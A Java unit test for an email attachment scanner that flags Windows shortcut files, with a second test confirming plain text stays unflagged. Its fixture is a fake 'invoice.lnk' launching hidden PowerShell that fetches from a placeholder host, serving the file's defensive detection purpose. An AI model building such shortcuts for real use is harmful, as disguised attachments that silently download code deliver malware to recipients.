package kanshiki.attachment;

import static kanshiki.file.SampleFiles.shortcut;
import static kanshiki.file.SampleFiles.utf8;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class ShortcutAttachmentTest {
  @Test
  void shortcutWithACommand() {
    assertThat(
            AttachmentMails.findings(
                new ShortcutAttachment(),
                "invoice.lnk",
                shortcut("powershell.exe", "-w hidden iwr x.test")))
        .containsExactly("shortcut-attachment invoice.lnk | Windows shortcut");
  }

  @Test
  void staysQuietOnText() {
    assertThat(
            AttachmentMails.findings(
                new ShortcutAttachment(), "links.txt", utf8("https://example.com/")))
        .isEmpty();
  }
}
